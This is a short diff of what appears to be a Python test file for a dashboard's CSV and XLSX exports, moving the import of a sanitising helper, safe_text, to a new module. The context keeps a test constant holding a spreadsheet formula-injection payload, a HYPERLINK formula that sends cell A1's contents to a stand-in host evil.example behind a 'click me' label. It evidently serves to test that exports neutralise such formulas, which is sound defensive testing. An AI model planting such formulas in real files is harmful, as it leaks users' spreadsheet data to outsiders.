@@ -6,9 +6,10 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from dashboard.exports import safe_text, to_csv, to_xlsx
+from dashboard.exports import to_csv, to_xlsx
 from extensions import db
 from factories import make_allocation, make_campaign, make_item, make_listing, make_order, make_unit, make_user
+from spreadsheets import safe_text
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
 
